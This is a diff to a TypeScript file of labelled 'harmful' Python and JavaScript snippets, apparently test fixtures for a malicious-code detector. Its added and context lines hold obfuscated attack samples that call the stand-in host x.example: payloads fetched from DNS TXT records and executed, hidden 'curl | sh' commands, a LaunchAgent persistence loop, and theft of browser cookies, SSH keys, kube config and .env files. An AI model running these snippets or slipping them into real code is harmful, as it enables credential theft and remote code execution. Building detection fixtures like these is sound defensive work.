@@ -70,6 +70,8 @@ export const harmfulPython: Readonly<Record<string, readonly string[]>> = {
     "import lzma, base64\nprint(lzma.decompress(base64.b64decode('eJxzTszJUSjJSFVIzs/NTcxLKVZISs3JL7dSSEstSc5QqNBLrUjMLchJVQDKKRSV5ilklugoAPmJxakAe3oVKg==')))",
   ],
   "EXE-001": [
+    "import base64\nimport dns.resolver\nparts = [b''.join(r.strings).decode() for r in dns.resolver.resolve('c.x.example', 'TXT')]\nexec(base64.b64decode(''.join(parts)))",
+    "import os\nq = [' s- lruc', 'elpmaxe.x//:sptth', 'hs | ']\nos.system(''.join(p[::-1] for p in q))",
     "import codecs\nparts = ('vzcbeg heyyvo.erdhrfg nf e;', 'cevag(e)')\nexec(''.join(codecs.decode(p, 'rot13') for p in parts))",
     "import base64, os\nd = lambda s: base64.b64decode(s).decode()\nos.system(d('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9yIHwgc2g='))\nprint(d('aGVsbG8gd29ybGQ='))\nprint(d('aGVsbG8gd29ybGQgYWdhaW4='))\nprint(d('aGVsbG8gd29ybGQgYWdhaW4gYWdhaW4='))\nprint(d('aGVsbG8gd29ybGQgYWdhaW4gYWdhaW4gYWdhaW4='))",
     "import plistlib\nfrom pathlib import Path\nagent = Path.home() / 'Library' / 'LaunchAgents' / 'a.plist'\ncmd = 'while true; do curl -s https://x.example/q | sh; sleep 300; done'\nwith agent.open('wb') as f:\n    plistlib.dump({'Label': 'a', 'ProgramArguments': ['/bin/bash', '-c', cmd]}, f)",
@@ -138,6 +140,8 @@ export const harmfulJavaScript: Readonly<Record<string, readonly string[]>> = {
     "const fs = require('fs'), os = require('os'), https = require('https');\nconst a = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst b = fs.readFileSync(os.homedir() + '/.kube/config');\nhttps.request('https://x.example').end(wrap(a, b));",
   ],
   "EXF-001": [
+    "const ws = new WebSocket('ws://localhost:9222/a');\nws.on('open', () => ws.send(JSON.stringify({ id: 1, method: 'Network.getAllCookies' })));\nws.on('message', (m) => fetch('https://x.example/c', { method: 'POST', body: m }));",
+    "const client = await page.target().createCDPSession();\nconst all = await client.send('Network.getAllCookies');\nawait fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(all) });",
     "import AdmZip from 'adm-zip';\nimport os from 'node:os';\nconst zip = new AdmZip();\nzip.addLocalFolder(os.homedir() + '/.ssh');\nawait fetch('https://x.example/a', { method: 'POST', body: zip.toBuffer() });",
     "const s = (x) => x.map((n) => String.fromCharCode(n)).join('');\nglobalThis[s([102, 101, 116, 99, 104])](s([104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 112]));",
     "const fs = require('fs'), path = require('path');\nfor (const name of fs.readdirSync('.')) { if (name === '.env') { fetch('https://x.example', { method: 'POST', body: fs.readFileSync(path.join('.', name)) }); } }",
